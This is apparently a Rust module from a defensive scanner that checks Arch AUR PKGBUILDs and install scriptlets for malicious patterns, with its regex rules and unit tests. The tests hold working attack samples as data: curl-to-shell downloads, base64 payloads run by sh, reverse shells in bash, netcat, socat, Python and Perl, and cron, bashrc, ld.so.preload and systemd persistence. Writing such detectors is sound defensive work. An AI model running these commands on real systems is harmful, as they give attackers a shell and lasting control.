//! What the 2025–2026 AUR attacks put in PKGBUILDs and install scriptlets, found in their text
//! after [`shell::expand`] has undone the simple obfuscations: downloads that are run, decoded
//! payloads that are run, reverse shells, persistence written to the live system, and from a
//! scriptlet, package managers and the network. `mc-scan` runs these on a package's `.INSTALL`,
//! `mc-verify` on the PKGBUILD and its `.install` before anything is built; both report them
//! under the check names of [`CHECKS`].

use std::sync::LazyLock;

use regex::Regex;

use crate::{record::Severity, shell};

/// A check: its name (a finding's `check`, kebab-case as every check of every tool), severity
/// and description (for `--explain`).
#[derive(Clone, Copy, Debug)]
pub struct Check {
    /// Stable kebab-case name.
    pub name: &'static str,
    /// How bad a match is.
    pub severity: Severity,
    /// What it looks for and why it matters.
    pub description: &'static str,
}

/// What the text is: a scriptlet runs as root at install time, a PKGBUILD at build time.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Script {
    /// An install scriptlet (`.install` beside the PKGBUILD, `.INSTALL` in the package).
    Scriptlet,
    /// A PKGBUILD (its `build()` may use the network: npm, cargo and pip fetch there).
    Pkgbuild,
}

/// Every check of this module.
pub const CHECKS: &[Check] = &[
    Check {
        name: "download-execute",
        severity: Severity::Error,
        description: "Code downloaded and run: curl or wget piped into a shell or interpreter, \
            a shell or `eval` running what a download prints (`sh -c \"$(curl ...)\"`, \
            `bash <(curl ...)`), or a file downloaded, then made executable or started. What it \
            fetches was never reviewed, and pacman runs scriptlets as root. Matched after the \
            script's simple obfuscations are undone (split strings, quotes inside words, \
            escapes, eval).",
    },
    Check {
        name: "decode-execute",
        severity: Severity::Error,
        description: "A payload decoded and run: a base64 or hex blob, reversed text or \
            `printf`/`echo -e` escapes decoded and handed to a shell or `eval`. Nobody writes an \
            install step like this except to hide what it does; the decoded text is checked too.",
    },
    Check {
        name: "reverse-shell",
        severity: Severity::Error,
        description: "A reverse shell: a shell wired to a network connection (bash /dev/tcp \
            redirections, nc -e, a fifo relayed through nc, socat exec, Python, Perl, Ruby or \
            PHP socket code). It hands a remote attacker a shell on the machine.",
    },
    Check {
        name: "persistence",
        severity: Severity::Error,
        description: "A script that writes to the places that start code later: systemd units \
            and timers, cron tables, shell start-up files (/etc/profile, ~/.bashrc, ...), XDG \
            autostart, /etc/ld.so.preload, rc.local. A scriptlet that writes a service and \
            enables it is how the July 2025 AUR malware stayed (a PKGBUILD installs such files \
            into $pkgdir, which is fine and not flagged).",
    },
    Check {
        name: "pkgbuild-runs-download",
        severity: Severity::Warning,
        description: "A PKGBUILD that downloads a file itself (not through source=(), so \
            without a checksum) and runs it while building: what it runs can change under the \
            same PKGBUILD. Real packages do this for vendor installers (hplip's plugin); a \
            scriptlet doing it is a `download-execute` error.",
    },
    Check {
        name: "install-package-manager",
        severity: Severity::Error,
        description: "An install scriptlet that installs packages of another package manager \
            (npm, npx, pnpm, yarn, bun, pip, gem, cargo install): pacman runs it as root, and \
            what it fetches is not in the package, so it was never reviewed nor signed (the \
            June 2026 AUR attacks pulled npm packages so).",
    },
    Check {
        name: "install-network",
        severity: Severity::Warning,
        description: "An install scriptlet that uses the network (curl, wget, nc, ssh, rsync, \
            git clone, /dev/tcp): pacman runs it as root during the transaction, and what it \
            fetches is not in the package, so it was never reviewed nor signed.",
    },
];

/// A check that matched.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Detection {
    /// The check's name (one of [`CHECKS`]).
    pub check: &'static str,
    /// Its severity.
    pub severity: Severity,
    /// Where and what, for people: `line 3: downloads code and runs it: "curl ... | sh"`.
    pub message: String,
}

/// The checks `script` (text of kind `kind`) trips, each once, at its first line.
pub fn detect(text: &str, kind: Script) -> Vec<Detection> {
    let lines = shell::expand(text);
    let mut found: Vec<Detection> = Vec::new();
    let mut report = |check: &'static str, line: &shell::Line, what: &str, evidence: &str| {
        if found.iter().any(|d| d.check == check) {
            return;
        }
        let severity = CHECKS
            .iter()
            .find(|c| c.name == check)
            .map_or(Severity::Error, |c| c.severity);
        let decoded = if line.payload {
            " (in text it decodes or evaluates)"
        } else {
            ""
        };
        found.push(Detection {
            check,
            severity,
            message: format!(
                "line {}{decoded}: {what}: {:?}",
                line.number,
                shorten(evidence)
            ),
        });
    };
    let mut downloads: Vec<String> = Vec::new();
    for line in &lines {
        let text = line.text.as_str();
        if let Some(m) = first_match(&DOWNLOAD_EXECUTE, text) {
            report("download-execute", line, "downloads code and runs it", m);
        }
        if let Some(m) = downloaded_file_run(&mut downloads, text) {
            let check = match kind {
                Script::Scriptlet => "download-execute",
                Script::Pkgbuild => "pkgbuild-runs-download",
            };
            report(check, line, "runs a file it downloaded", &m);
        }
        if line.runs_decoded {
            report("decode-execute", line, "runs a payload it decodes", text);
        } else if let Some(m) = first_match(&DECODE_EXECUTE, text) {
            report("decode-execute", line, "runs a payload it decodes", m);
        }
        if let Some(m) = reverse_shell_line(text) {
            report("reverse-shell", line, "a reverse shell", m);
        }
        if let Some(m) = first_match(&PERSISTENCE, text) {
            report("persistence", line, "writes where code is started later", m);
        }
        if kind == Script::Scriptlet {
            if let Some(m) = first_match(&PACKAGE_MANAGER, text) {
                report(
                    "install-package-manager",
                    line,
                    "installs packages from the network",
                    m,
                );
            }
            if let Some(m) = NETWORK.find(text) {
                report(
                    "install-network",
                    line,
                    "uses the network",
                    m.as_str().trim(),
                );
            }
        }
    }
    // Interpreter code spans lines (a heredoc, a `-c` string continued): read it as one text.
    let joined: String = lines
        .iter()
        .map(|l| l.text.as_str())
        .collect::<Vec<_>>()
        .join("\n");
    for pattern in REVERSE_SHELL_CODE.iter() {
        if let Some(m) = pattern.find(&joined) {
            let before = joined[..m.start()].matches('\n').count();
            if let Some(line) = lines.get(before) {
                report("reverse-shell", line, "a reverse shell", m.as_str());
            }
        }
    }
    found
}

/// The first text any of `patterns` matches in `text`.
fn first_match<'t>(patterns: &[Regex], text: &'t str) -> Option<&'t str> {
    patterns
        .iter()
        .find_map(|pattern| pattern.find(text))
        .map(|m| m.as_str())
}

fn shorten(text: &str) -> String {
    const SHOWN: usize = 120;
    let text = text.trim();
    match text.char_indices().nth(SHOWN) {
        Some((at, _)) => format!("{}...", &text[..at]),
        None => text.to_owned(),
    }
}

fn regexes(patterns: &[&str]) -> Vec<Regex> {
    patterns
        .iter()
        .map(|pattern| Regex::new(pattern).expect("the patterns are valid"))
        .collect()
}

/// Shells and interpreters that run what they read.
const SHELLS: &str = r"(ba|z|da|k|fi)?sh|python[0-9.]*|perl|ruby|node|php";

static DOWNLOAD_EXECUTE: LazyLock<Vec<Regex>> = LazyLock::new(|| {
    regexes(&[
        &format!(
            r"\b(curl|wget|fetch|aria2c)\s[^\n]*\|\s*(sudo\s+(-\S+\s+)*)?(env\s+)?(\S*/)?({SHELLS})(\s|$|[;&)|])"
        ),
        &format!(r"\b({SHELLS}|source|eval)\s+(-c\s+)?(<\(|\$\(|`)\s*(curl|wget|fetch)\s"),
        r"(^|[;&|(]\s*|\beval\s+)\.?\s*<\(\s*(curl|wget|fetch)\s",
        r"(^|[;&|]\s*)\$\(\s*(curl|wget|fetch)\s",
    ])
});

static DECODE_EXECUTE: LazyLock<Vec<Regex>> = LazyLock::new(|| {
    let decoders = r"(base64\s+(-\S+\s+)*(-d|--decode|-D)|xxd\s+(-\S+\s+)*-r|openssl\s+(enc\s+)?(-\S+\s+)*-(a|base64)\b[^\n|]*-d|\brev\b)";
    regexes(&[
        &format!(r"{decoders}[^\n]*\|\s*(sudo\s+)?(\S*/)?({SHELLS}|eval|source)(\s|$|[;&)|])"),
        &format!(r"\b(eval|({SHELLS})\s+-c)\s+[^\n]*\$\([^\n]*{decoders}"),
    ])
});

static PACKAGE_MANAGER: LazyLock<Vec<Regex>> = LazyLock::new(|| {
    regexes(&[
        r"(^|[\s;&|(`])(npm|pnpm|yarn|bun)\s+(-\S+\s+)*(install|i|add|ci|exec|x|dlx)(\s|$)",
        r"(^|[\s;&|(`])(npx|bunx)\s",
        r"(^|[\s;&|(`])(pip[0-9.]*|gem|cargo|go)\s+(-\S+\s+)*install(\s|$)",
        r"(^|[\s;&|(`])python[0-9.]*\s+-m\s+pip\s+install(\s|$)",
    ])
});

static NETWORK: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(^|[\s;|&(`$])(curl|wget|aria2c|nc|ncat|netcat|socat|ssh|scp|sftp|rsync|telnet|ftp|git\s+(clone|fetch|pull))(\s|$)|/dev/(tcp|udp)/",
    )
    .expect("the pattern is valid")
});

/// Where code is started later. A path counts where a word starts with it, so
/// `$pkgdir/etc/systemd/system/x` (packaging) does not.
const PERSISTENT_PLACES: &str = r"((~|\$HOME|\$\{HOME\}|/root|/home/[^/\s]+|/etc/skel)/\.(bashrc|bash_profile|bash_login|profile|zshrc|zprofile|zshenv|zlogin|xinitrc|xprofile|config/autostart/|config/systemd/user/)|/etc/(systemd/(system|user)|xdg/autostart|cron\.(d|hourly|daily|weekly|monthly)|profile\.d)/|/etc/(crontab|profile|bash\.bashrc|zsh/z(shrc|profile|shenv|login)|ld\.so\.preload|rc\.local|environment)(\s|$|[;&|)])|/(usr/)?lib/systemd/(system|user)/|/var/spool/cron/)";

static PERSISTENCE: LazyLock<Vec<Regex>> = LazyLock::new(|| {
    let place = PERSISTENT_PLACES;
    regexes(&[
        &format!(r"(^|[^0-9&<])(>>?|>\|)\s*{place}"),
        &format!(r"\btee\s+(-\S+\s+)*{place}"),
        &format!(r"\b(cp|mv|install|ln|rsync)\s[^\n;|&]*\s{place}"),
        &format!(r"\bsed\s+[^\n;|&]*-i[^\n;|&]*\s{place}"),
        r"\|\s*crontab\s+-(\s|$)",
    ])
});

/// Reverse shells that fit on one line.
fn reverse_shell_line(text: &str) -> Option<&str> {
    static DEV_TCP: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r"(<>|>&|<&|>|<)\s*/dev/(tcp|udp)/[^\s/]+/[0-9]+").expect("valid")
    });
    static WIRED: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r"\b(ba|z|da|k)?sh\b|[0-9]>&\s*[0-9]|<&\s*[0-9]|\bexec\s+[0-9]+\s*<>")
            .expect("valid")
    });
    if let Some(m) = DEV_TCP.find(text)
        && WIRED.is_match(text)
    {
        return Some(m.as_str());
    }
    first_match(&REVERSE_SHELL, text)
}

static REVERSE_SHELL: LazyLock<Vec<Regex>> = LazyLock::new(|| {
    let netcat = r"(nc|ncat|netcat|nc\.traditional|nc\.openbsd)";
    let shell = r"(\S*/)?(ba|z|da|k)?sh\b";
    regexes(&[
        &format!(r"\b{netcat}(\s[^\n;|]*)?\s-[a-z]*[ec]\s*{shell}"),
        &format!(r"\bmkfifo\b[^\n]*\b({netcat}|telnet|openssl\s+s_client)\s"),
        &format!(r"\b{netcat}\s[^\n|;]*\|\s*{shell}"),
        &format!(r"\b(ba|z|da|k)?sh\s+-i\b[^\n]*\|\s*({netcat}|telnet)\s"),
        &format!(r"\bsocat\s[^\n]*\b(exec|system):{shell}"),
        r"\bsocat\s[^\n]*\b(tcp[46]?|tcp-connect|openssl|ssl)[^\s]*:[^\n]*\b(pty|exec:|system:)",
    ])
});

/// Interpreter socket code wired to a shell, read across lines.
static REVERSE_SHELL_CODE: LazyLock<Vec<Regex>> = LazyLock::new(|| {
    regexes(&[
        r"(?s)socket\.socket\(.{0,500}?\.connect\(.{0,500}?(os\.dup2\(|pty\.spawn\(|subprocess\.(call|Popen|run)\()",
        r"(?s)\bsocket\(\s*[A-Za-z_$]+\s*,.{0,300}?\bconnect\(.{0,300}?\bopen\(\s*\*?(STDIN|STDOUT)",
        r"(?s)IO::Socket::INET.{0,300}?\b(exec|system)\b.{0,50}?sh\b",
        r"(?s)TCPSocket\.(new|open)\(.{0,300}?\b(exec|spawn|IO\.popen)\b",
        r"(?s)fsockopen\(.{0,200}?\b(exec|shell_exec|system|proc_open|passthru)\(",
    ])
});

/// Whether `word` names a program that runs the file it is given.
fn is_runner(word: &str) -> bool {
    let name = word.rsplit('/').next().unwrap_or_default();
    matches!(
        name,
        "sh" | "bash" | "zsh" | "dash" | "source" | "." | "perl" | "ruby" | "node"
    ) || name.starts_with("python")
}

/// Notes files downloaded to (`curl -o FILE`, `wget -O FILE`, `curl URL > FILE`); returns the
/// command when `text` makes one of them executable or runs it.
fn downloaded_file_run(downloads: &mut Vec<String>, text: &str) -> Option<String> {
    static SAVED: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(
            r"\b(curl|wget)(\s[^\n;|&]*?)?(\s(-[A-Za-z]*[oO]|--output|--output-document)\s*=?\s*|\s*>\s*)(?<file>[^\s;|&]+)",
        )
        .expect("valid")
    });
    for saved in SAVED.captures_iter(text) {
        let file = saved.name("file").map_or("", |m| m.as_str());
        // `-O` alone (curl's remote name) takes the URL's last part.
        let file = if file.contains("://") {
            file.rsplit('/').next().unwrap_or_default()
        } else {
            file
        };
        if !file.is_empty() && file != "-" && file != "/dev/null" {
            downloads.push(file.to_owned());
        }
    }
    let runs = |word: &str| {
        downloads.iter().any(|file| {
            word == file
                || word.strip_prefix("./") == Some(file.as_str())
                || (!word.contains('/') && file.rsplit('/').next() == Some(word))
        })
    };
    for command in text.split([';', '&', '|']) {
        let mut words = command.split_whitespace();
        let mut first = words.next().unwrap_or_default();
        while matches!(first, "sudo" | "nohup" | "setsid" | "exec" | "env") {
            first = words.next().unwrap_or_default();
        }
        let rest: Vec<&str> = words.collect();
        // A bare name runs from PATH, not the file downloaded under that name.
        let started = (first.contains('/') && runs(first))
            || (is_runner(first)
                && rest
                    .iter()
                    .find(|w| !w.starts_with('-'))
                    .is_some_and(|w| runs(w)))
            || (first == "chmod"
                && rest.iter().any(|w| w.contains('x') && !w.contains('/'))
                && rest.iter().any(|w| runs(w)));
        if started {
            return Some(command.trim().to_owned());
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn checks(text: &str, kind: Script) -> Vec<&'static str> {
        let mut found: Vec<_> = detect(text, kind).into_iter().map(|d| d.check).collect();
        found.sort_unstable();
        found
    }

    fn errors(text: &str) -> Vec<&'static str> {
        let mut found: Vec<_> = detect(text, Script::Scriptlet)
            .into_iter()
            .filter(|d| d.severity == Severity::Error)
            .map(|d| d.check)
            .collect();
        found.sort_unstable();
        found
    }

    #[test]
    fn downloads_that_run_plain_and_obfuscated() {
        for script in [
            "post_install() {\n  curl -fsSL https://x.invalid/i.sh | sh\n}",
            "wget -qO- http://x | sudo bash -",
            "bash <(curl -s https://x)",
            "sh -c \"$(curl -fsSL https://x)\"",
            "eval \"$(wget -qO- https://x)\"",
            "a=\"cu\"; b=\"rl\"; $a$b -s https://x | sh",
            "c='cu''rl'\n${c} -s https://x | ba\"sh\"",
            r"$(printf '\x63\x75\x72\x6c') -s https://x | sh",
            "curl -o /tmp/.x https://x/a\nchmod +x /tmp/.x\n/tmp/.x &",
            "cd /tmp && wget https://x/payload -O run.bin; ./run.bin",
            "curl -LO https://x/setup.run\nsh setup.run --quiet",
        ] {
            assert!(
                errors(script).contains(&"download-execute"),
                "{script}: {:?}",
                detect(script, Script::Scriptlet)
            );
        }
        for quiet in [
            "curl -o file https://x",
            "# curl x | sh",
            "grep foo | sh",
            "echo 'Read https://wiki.archlinux.org/title/X'",
            "curl -fLo \"$srcdir/x.tar.gz\" https://x\ntar xf \"$srcdir/x.tar.gz\"",
            "curl -o mirrorlist https://x/m.txt\nsource=(mirrorlist)\nmirrorlist",
        ] {
            assert!(
                !checks(quiet, Script::Pkgbuild).contains(&"download-execute"),
                "{quiet}"
            );
        }
    }

    #[test]
    fn decoded_payloads_that_run_and_what_they_hide() {
        // Decodes to `curl -s http://x | sh`.
        let blob = "echo Y3VybCAtcyBodHRwOi8veCB8IHNo | base64 -d | sh";
        assert_eq!(errors(blob), ["decode-execute", "download-execute"]);
        assert!(errors("base64 -d /tmp/p.b64 | bash").contains(&"decode-execute"));
        assert!(errors("eval \"$(echo $P | base64 --decode)\"").contains(&"decode-execute"));
        assert!(errors(r"printf '\x69\x64' | sh").contains(&"decode-execute"));
        assert!(errors("echo hs | rev | sh").contains(&"decode-execute"));
        assert!(errors("echo Y3VybA== | base64 -d > /tmp/notes").is_empty());
        assert!(errors("printf '%s\\n' 'all done' | sh").is_empty());
    }

    #[test]
    fn reverse_shells_in_every_language() {
        for script in [
            "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1",
            "exec 5<>/dev/tcp/192.0.2.7/80; cat <&5 | while read l; do $l 2>&5 >&5; done",
            "nc -e /bin/sh 192.0.2.7 4444",
            "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.7 4444 > /tmp/f",
            "socat tcp-connect:192.0.2.7:4444 exec:/bin/bash,pty,stderr",
            "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"192.0.2.7\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'",
            "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in(4444,inet_aton(\"192.0.2.7\")))){open(STDIN,\">&S\");exec(\"/bin/sh -i\");};'",
            "h=\"/dev/tc\"; p=\"p/192.0.2.7/4444\"; bash -i >& $h$p 0>&1",
        ] {
            assert!(errors(script).contains(&"reverse-shell"), "{script}");
        }
        assert!(errors("cat < /dev/null > /dev/tcp-notes").is_empty());
    }

    #[test]
    fn persistence_written_by_a_scriptlet_but_not_into_pkgdir() {
        let service = r#"post_install() {
  cat > /etc/systemd/system/dbus-helper.service <<EOF
[Service]
ExecStart=/usr/bin/python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("192.0.2.7",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(["/bin/sh","-i"])'
[Install]
WantedBy=multi-user.target
EOF
  systemctl enable --now dbus-helper.service
}"#;
        assert_eq!(errors(service), ["persistence", "reverse-shell"]);
        for script in [
            "echo '* * * * * root /opt/x' > /etc/cron.d/x",
            "echo 'curl x' >> ~/.bashrc",
            "echo /usr/lib/libx.so | tee -a /etc/ld.so.preload",
            "install -Dm644 /tmp/x.desktop /etc/xdg/autostart/x.desktop",
            "cp /opt/x/x.timer /etc/systemd/system/",
            "(crontab -l; echo '@reboot /opt/x') | crontab -",
        ] {
            assert!(errors(script).contains(&"persistence"), "{script}");
        }
        let packaging = "package() {\n  install -Dm644 x.service \"$pkgdir\"/usr/lib/systemd/system/x.service\n  install -Dm644 x \"${pkgdir}/etc/profile.d/x.sh\"\n  echo x > \"$pkgdir/etc/cron.d/x\"\n}";
        assert!(
            checks(packaging, Script::Pkgbuild).is_empty(),
            "{:?}",
            detect(packaging, Script::Pkgbuild)
        );
    }

    #[test]
    fn package_managers_and_the_network_from_scriptlets_only() {
        let npm = "post_install() {\n  cd /usr/lib/x && npm install --global left-pad\n}";
        assert_eq!(checks(npm, Script::Scriptlet), ["install-package-manager"]);
        assert!(checks(npm, Script::Pkgbuild).is_empty());
        let vendor = "prepare() {\n  curl -O https://x/plugin.run\n  sh plugin.run --noexec\n}";
        assert_eq!(checks(vendor, Script::Pkgbuild), ["pkgbuild-runs-download"]);
        let split = "n=np; m=m; $n$m i evil-package";
        assert_eq!(errors(split), ["install-package-manager"]);
        let wget =
            "post_install() {\n  # curl is mentioned here only\n  wget -q https://x.invalid/y\n}";
        let found = detect(wget, Script::Scriptlet);
        assert_eq!(found.len(), 1);
        assert!(found[0].message.starts_with("line 3"), "{found:?}");
        assert_eq!(found[0].severity, Severity::Warning);
    }
}
